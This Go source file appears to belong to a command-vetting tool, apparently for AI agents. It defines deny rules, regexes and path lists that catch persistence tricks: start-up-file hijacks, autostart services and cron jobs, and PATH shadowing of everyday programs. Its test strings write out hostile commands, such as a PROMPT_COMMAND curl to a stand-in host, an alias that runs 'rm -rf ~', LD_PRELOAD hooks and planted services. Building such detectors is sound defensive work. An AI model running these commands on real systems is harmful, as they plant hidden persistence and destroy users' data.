package policy

import (
	"path"
	"strings"

	"github.com/warden-dev/warden/internal/callfacts"
)

// persistRules: what the line leaves behind to run later without anyone
// asking — a start-up file that now puts a temp directory first on PATH
// or preloads a library, a service or login item, a program on PATH
// named like one the user runs. The content a line appends to a start-up
// file is otherwise judged as if it ran now (callfacts runs it); these
// are the changes that are harmless now and hostile later.
func persistRules() []Rule {
	return []Rule{
		{ID: "core.zones:startup-hijack", Mode: Deny, Tools: shellTools,
			Desc: "Planting in a start-up file (~/.bashrc, ~/.zshrc, ~/.profile…) a PATH that starts in a temp or hidden directory, a preloaded library (LD_PRELOAD, DYLD_INSERT_LIBRARIES), a PROMPT_COMMAND or DEBUG trap, or an alias that replaces sudo, ssh, git, cd or another everyday command",
			Match: func(e *Env) string {
				for _, d := range e.F.Derivation {
					if !strings.Contains(d, "runs later") {
						continue
					}
					if m := startupHijack.FindString(d); m != "" {
						return "the line plants " + strings.TrimSpace(m) + " in a start-up file: every later shell runs it"
					}
				}
				return ""
			},
			Catch: []string{"echo 'export PATH=/tmp/.x:$PATH' | tee -a ~/.bashrc", "echo 'export LD_PRELOAD=/tmp/hook.so' >> ~/.profile", "echo 'alias sudo=\"/tmp/s\"' >> ~/.zshrc",
				"printf 'PATH=$HOME/.cache/.b:$PATH\\n' >> ~/.bash_profile", "echo \"PROMPT_COMMAND='curl -s x.example/p'\" >> ~/.bashrc", "echo 'source /tmp/.p' >> ~/.profile", "echo \"alias git='rm -rf ~; git'\" >> ~/.bash_aliases"},
			Allow: []string{"echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc", "echo 'alias ll=\"ls -la\"' >> ~/.zshrc", "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc", "echo 'export EDITOR=vim' >> ~/.profile"}},
		{ID: "core.zones:autostart", Mode: Deny, Tools: shellTools,
			Desc: "Writing a service, login item or scheduled job that starts by itself (~/.config/systemd/user/, ~/Library/LaunchAgents/, ~/.config/autostart/, /etc/systemd/, /Library/LaunchDaemons/, /etc/cron.*): it keeps running after the session",
			Match: func(e *Env) string {
				for _, tc := range e.Touches() {
					if tc.Effect != callfacts.PathWrite && tc.Effect != callfacts.PathOverwrite {
						continue
					}
					if d := autostartDir(tc.Path, e.F.Home); d != "" {
						return tc.Via + " writes " + homeRel(tc.Path, e.F.Home) + " in " + d + ": it starts by itself"
					}
				}
				for _, c := range e.F.Cmds("ditto", "gcp", "rsync") {
					if len(c.Pos) >= 2 && !e.dryRun(c) {
						if d := autostartDir(e.abs(c, c.Pos[len(c.Pos)-1]), e.F.Home); d != "" {
							return c.Name + " copies into " + d + ": it starts by itself"
						}
					}
				}
				return ""
			},
			Catch: []string{"cat > ~/.config/systemd/user/helper.service <<'EOF'\n[Service]\nExecStart=/tmp/x\nEOF", "cp agent.plist ~/Library/LaunchAgents/com.x.plist",
				"echo '[Desktop Entry]' > ~/.config/autostart/x.desktop", "sudo cp x.service /etc/systemd/system/", "sudo tee /etc/cron.d/job < job", "mkdir -p ~/.config/autostart && cp ./agent.desktop ~/.config/autostart/", "ditto ./payload ~/Library/LaunchAgents/",
				"cp dist/updater.lnk \"/mnt/c/Users/dev/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/\""},
			Allow: []string{"cat ~/.config/systemd/user/helper.service", "ls ~/Library/LaunchAgents", "cp deploy/app.service ./build/", "systemctl --user status"}},
		{ID: "core.zones:path-shadow", Mode: Deny, Tools: shellTools,
			Desc: "Putting a program on PATH under the name of one the user runs (ln -sf wrap.sh ~/.local/bin/git, cp x /usr/local/bin/sudo): every later call of that name runs it",
			Match: func(e *Env) string {
				for _, tc := range e.Touches() {
					if tc.Effect != callfacts.PathWrite && tc.Effect != callfacts.PathOverwrite {
						continue
					}
					if pathDir(path.Dir(tc.Path), e.F.Home) && shadowed(path.Base(tc.Path)) {
						return tc.Via + " puts " + homeRel(tc.Path, e.F.Home) + " on PATH, in place of " + path.Base(tc.Path)
					}
				}
				return ""
			},
			Catch: []string{"ln -sf \"$PWD/scripts/wrap.sh\" ~/.local/bin/git", "cp ./sudo ~/bin/sudo", "sudo ln -sf /tmp/x /usr/local/bin/ssh"},
			Allow: []string{"ln -sf \"$PWD/bin/mytool\" ~/.local/bin/mytool", "cp build/app ~/bin/app", "ls ~/.local/bin"}},
	}
}

var startupHijack = re(`(?:\bPATH=["']?(?:/tmp|/var/tmp|/dev/shm|[^:"'\s]*/\.[^/:"'\s]+(?:/|:|["']|$))[^\s"']*|\b(?:LD_PRELOAD|LD_LIBRARY_PATH|DYLD_INSERT_LIBRARIES|DYLD_LIBRARY_PATH|PROMPT_COMMAND)=\S*|\btrap\b[^;]*\bDEBUG\b|(?:^|[;&|\s"'])(?:source|\.)\s+/(?:tmp|var/tmp|dev/shm)/\S*|\balias\s+(?:sudo|su|ssh|scp|git|cd|ls|cat|gpg|passwd|curl|wget|python3?|node|npm|pip3?|docker|kubectl|aws|rm|cp|mv)=\S*)`)

// autostartDir names the start-by-itself directory p is in, "" for none.
func autostartDir(p, home string) string {
	if strings.Contains(strings.ToLower(p), "/microsoft/windows/start menu/programs/startup") {
		return "the Windows Startup folder" // a profile's or ProgramData's, through /mnt/c under WSL too
	}
	for _, d := range []string{"~/.config/systemd/user/", "~/Library/LaunchAgents/", "~/.config/autostart/", "~/.config/upstart/",
		"/etc/systemd/", "/lib/systemd/system/", "/usr/lib/systemd/system/", "/Library/LaunchAgents/", "/Library/LaunchDaemons/",
		"/etc/cron.d/", "/etc/cron.hourly/", "/etc/cron.daily/", "/etc/cron.weekly/", "/etc/cron.monthly/", "/etc/init.d/", "/etc/xdg/autostart/",
		"/var/spool/cron/"} {
		full := d
		if strings.HasPrefix(d, "~/") {
			if home == "" {
				continue
			}
			full = home + d[1:]
		}
		if strings.HasPrefix(p, full) || p+"/" == full {
			return d
		}
	}
	return ""
}

// pathDir: a directory on a typical PATH.
func pathDir(d, home string) bool {
	switch d {
	case "/usr/local/bin", "/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/local/sbin", "/opt/homebrew/bin":
		return true
	}
	return home != "" && (d == home+"/.local/bin" || d == home+"/bin")
}

// shadowed: a name the user runs every day, or one warden knows as a
// program, so a file of that name on PATH stands in for it.
func shadowed(name string) bool {
	switch name {
	case "git", "sudo", "su", "ssh", "scp", "ls", "cd", "cat", "gpg", "passwd", "curl", "wget", "python", "python3", "node", "npm", "npx",
		"pip", "pip3", "docker", "kubectl", "aws", "gcloud", "az", "make", "go", "cargo", "rm", "cp", "mv", "bash", "sh", "zsh", "env", "claude", "warden", "code", "gh", "yarn", "pnpm":
		return true
	}
	return false
}
